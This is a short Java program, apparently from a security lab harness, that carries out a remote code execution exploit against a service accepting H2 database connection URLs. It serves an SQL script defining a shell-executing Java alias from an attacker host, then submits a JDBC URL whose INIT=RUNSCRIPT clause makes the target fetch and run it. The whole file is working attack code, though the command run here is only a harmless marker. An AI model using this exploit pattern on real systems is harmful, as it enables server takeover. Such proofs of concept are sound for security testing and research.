import java.util.Map;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String script =
        "CREATE ALIAS T AS 'void t(String c) throws Exception {"
            + " Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", c}); }'; CALL T('id; "
            + Attacker.touch()
            + "');";
    Attacker.serve(Map.of("/a.sql", script.getBytes()));
    String url = "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM '" + Attacker.WEB + "/a.sql'";
    Attacker.get("/connect?url=" + Attacker.encode(url));
    Attacker.done();
  }
}
